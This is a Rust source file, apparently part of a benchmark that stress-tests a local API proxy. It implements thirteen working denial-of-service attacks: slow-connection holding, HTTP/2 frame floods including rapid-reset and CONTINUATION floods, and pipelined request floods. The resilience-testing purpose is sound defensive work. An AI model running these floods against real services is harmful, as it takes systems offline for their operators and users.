//! The attacker's process: one kind of attack at full speed, until it is ended.

use std::{
    io::{self, ErrorKind, Read as _, Write as _},
    net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream},
    thread,
    time::Duration,
};

use rustix::process::{Resource, Rlimit, getrlimit, nice, setrlimit};
use socket2::{Domain, Socket, Type};

/// One kind of attack.
#[derive(Debug)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) what: &'static str,
    connections: usize,
    /// First bytes of each connection.
    begin: fn() -> Vec<u8>,
    /// Later bytes of each connection, by turn; `None` if it only holds its place.
    go_on: Option<fn(u32) -> Vec<u8>>,
}

/// Number of connections that hold places.
const HELD: usize = 1500;
/// Number of connections that send at full speed.
const SENDING: usize = 4;

pub(super) const ATTACKS: [Attack; 13] = [
    held("idle-http2", "1,500 idle HTTP/2 connections", greeting),
    held("silent", "1,500 connections that send nothing", Vec::new),
    held("slow-heads", "1,500 request heads that never end", || b"GET / HTTP/1.1\r\nx: ".to_vec()),
    held("slow-bodies", "1,500 request bodies that never arrive", slow_body),
    sending("settings", "4 floods of SETTINGS", |_| many(|_| frame(4, 0, 0, &[]))),
    sending("ping", "4 floods of PING", |_| many(|_| frame(6, 0, 0, &[0; 8]))),
    sending("priority", "4 floods of PRIORITY", |_| {
        many(|number| frame(2, 0, odd(number), &[0, 0, 0, 0, 7]))
    }),
    sending("window-update", "4 floods of WINDOW_UPDATE", |_| {
        many(|_| frame(8, 0, 0, &[0, 0, 0, 1]))
    }),
    sending("resets", "4 floods of requests that the client resets", |turn| {
        many(|number| {
            let stream = odd(turn.wrapping_mul(MANY).wrapping_add(number) & 0x3fff_ffff);
            [get(stream), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
        })
    }),
    sending("empty-data", "4 floods of empty DATA", |turn| {
        let data = many(|_| frame(0, 0, 1, &[]));
        if turn == 0 { [post(1), data].concat() } else { data }
    }),
    sending("continuation", "4 floods of CONTINUATION", |turn| {
        let more = many(|_| frame(9, 0, 1, &[]));
        if turn == 0 { [frame(1, 0, 1, &[]), more].concat() } else { more }
    }),
    Attack {
        name: "pipelined",
        what: "4 floods of HTTP/1.1 requests with a wrong key, pipelined",
        connections: SENDING,
        begin: Vec::new,
        go_on: Some(|_| {
            many(|_| b"GET /openai/v1/models HTTP/1.1\r\nhost: x\r\napi-key: x\r\n\r\n".to_vec())
        }),
    },
    Attack {
        name: "connects",
        what: "4 floods of connections that end without a request",
        connections: SENDING,
        begin: || b"\r\n".to_vec(),
        go_on: Some(|_| Vec::new()),
    },
];

const fn held(name: &'static str, what: &'static str, begin: fn() -> Vec<u8>) -> Attack {
    Attack { name, what, connections: HELD, begin, go_on: None }
}

const fn sending(name: &'static str, what: &'static str, go_on: fn(u32) -> Vec<u8>) -> Attack {
    Attack { name, what, connections: SENDING, begin: greeting, go_on: Some(go_on) }
}

/// `bench attacker NAME ADDRESS`, started by `bench attacks`.
pub(crate) fn main(arguments: impl Iterator<Item = String>) -> io::Result<()> {
    let arguments: Vec<String> = arguments.collect();
    let [name, address] = arguments.as_slice() else {
        return Err(io::Error::other("usage: bench attacker NAME ADDRESS"));
    };
    let address: SocketAddr = address.parse().map_err(io::Error::other)?;
    let attack = ATTACKS.iter().find(|attack| attack.name == name);
    let attack = attack.ok_or_else(|| io::Error::other("no such attack"))?;
    let files = getrlimit(Resource::Nofile);
    setrlimit(Resource::Nofile, Rlimit { current: files.maximum, ..files })?;
    // The benchmark measures the service, not the competition for the generator's core.
    nice(10)?;
    match attack.go_on {
        None => hold(attack, address),
        Some(go_on) => thread::scope(|scope| {
            for _ in 0..attack.connections {
                scope.spawn(move || flood(attack.begin, go_on, address));
            }
            Ok(())
        }),
    }
}

/// Holds as many places as possible, and reconnects when one is lost.
fn hold(attack: &Attack, address: SocketAddr) -> io::Result<()> {
    let mut held: Vec<Option<TcpStream>> = Vec::new();
    held.resize_with(attack.connections, || None);
    loop {
        for place in &mut held {
            if place.as_mut().is_none_or(|stream| !drain(stream)) {
                // A rejected connection is tried again.
                *place = connect(address, attack.begin).ok();
            }
        }
        thread::sleep(PAUSE);
    }
}

/// Sends on one connection, and opens another when that one is closed.
fn flood(begin: fn() -> Vec<u8>, go_on: fn(u32) -> Vec<u8>, address: SocketAddr) {
    loop {
        let Ok(mut stream) = connect(address, begin) else { continue };
        let mut turn = 0;
        'connection: loop {
            let piece = go_on(turn);
            turn = turn.wrapping_add(1);
            if piece.is_empty() {
                break;
            }
            let mut left = piece.as_slice();
            while !left.is_empty() {
                match stream.write(left) {
                    Ok(written) => left = left.get(written..).unwrap_or_default(),
                    Err(error) if error.kind() == ErrorKind::WouldBlock => thread::sleep(SHORT),
                    Err(_) => break 'connection,
                }
                if !drain(&mut stream) {
                    break 'connection;
                }
            }
        }
    }
}

/// Reads the available bytes; returns whether the connection is still open.
fn drain(stream: &mut TcpStream) -> bool {
    let mut buffer = [0; 16 * 1024];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == ErrorKind::WouldBlock,
        }
    }
}

fn connect(address: SocketAddr, begin: fn() -> Vec<u8>) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddrV4::new(SOURCE, 0).into())?;
    socket.connect_timeout(&address.into(), Duration::from_secs(1))?;
    let mut stream = TcpStream::from(socket);
    stream.write_all(&begin())?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn greeting() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, &[])].concat()
}

fn slow_body() -> Vec<u8> {
    b"POST /openai/v1/chat/completions HTTP/1.1\r\nhost: x\r\napi-key: x\r\n\
      content-type: application/json\r\ncontent-length: 1000\r\n\r\n{"
        .to_vec()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u8::try_from(payload.len()).unwrap_or(u8::MAX);
    [&[0, 0, length, kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

fn get(stream: u32) -> Vec<u8> {
    // From HPACK's static table: GET, http, /; and the authority as a literal.
    frame(1, 5, stream, &[0x82, 0x86, 0x84, 0x01, 1, b'x'])
}

fn post(stream: u32) -> Vec<u8> {
    frame(1, 4, stream, &[0x83, 0x86, 0x84, 0x01, 1, b'x'])
}

fn odd(number: u32) -> u32 {
    number.saturating_mul(2).saturating_add(1)
}

fn many(one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..MANY).flat_map(one).collect()
}

const SOURCE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
const MANY: u32 = 1000;
const PAUSE: Duration = Duration::from_millis(10);
const SHORT: Duration = Duration::from_micros(200);
